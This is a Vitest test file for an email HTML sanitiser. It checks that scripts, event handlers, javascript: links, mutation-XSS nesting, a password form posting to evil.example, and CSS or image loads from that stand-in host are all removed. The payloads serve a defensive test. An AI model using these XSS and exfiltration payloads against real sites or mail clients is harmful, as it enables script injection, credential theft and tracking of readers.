// @vitest-environment jsdom
import { expect, test } from 'vitest';
import { cleanHtml } from './clean-html.ts';

const clean = (html: string) => cleanHtml(html, new Map([['logo', '/files/logo.png']])).html;

test.each([
  '<script>steal()</script>',
  '<img src=x onerror=steal()>',
  '<svg><use href="data:image/svg+xml,x#x"/></svg>',
  '<svg><animate onbegin=steal() attributeName=x></svg>',
  '<a href="javascript:steal()">x</a>',
  '<a href=" \u0001javascript:steal()">x</a>',
  '<form action="https://evil.example"><input name=password></form>',
  '<iframe srcdoc="<script>steal()</script>"></iframe>',
  '<object data="https://evil.example/x"></object>',
  '<math><mtext><table><mglyph><style><img src=x onerror=steal()></style></mglyph></table></mtext></math>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import url(https://evil.example/x.css);</style>',
  '<style>p{background:url(https://evil.example/x)}</style>',
  '<style>p{background:u\\72l(https://evil.example/x)}</style>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<table background="https://evil.example/x"><tr><td>x</td></tr></table>',
  '<img srcset="https://evil.example/x 2x" src="https://evil.example/x">',
  '<video poster="https://evil.example/x"></video>',
  '<a href="https://example.ru" ping="https://evil.example/x">x</a>',
])('nothing of a letter runs or loads by itself: %s', (html) => {
  const cleaned = clean(html);
  expect(cleaned).not.toMatch(
    /steal|evil|javascript:|<(?:script|form|input|iframe|object|meta|base|link|svg|math|video)/iu,
  );
});

test('what a letter looks like stays, and links open apart from the page', () => {
  expect(clean('<p style="color:red;position:fixed">x</p>')).toBe(
    '<p style="color:red;position: static">x</p>',
  );
  const link = clean('<a href="https://example.ru/x">x</a>');
  expect(link).toContain('href="https://example.ru/x"');
  expect(link).toContain('rel="noopener noreferrer nofollow"');
  expect(clean('<img src="cid:logo">')).toContain('src="/files/logo.png"');
  expect(
    cleanHtml('<img src="https://evil.example/1"><img src="//evil.example/2">', new Map()).remotePictures,
  ).toBe(2);
});
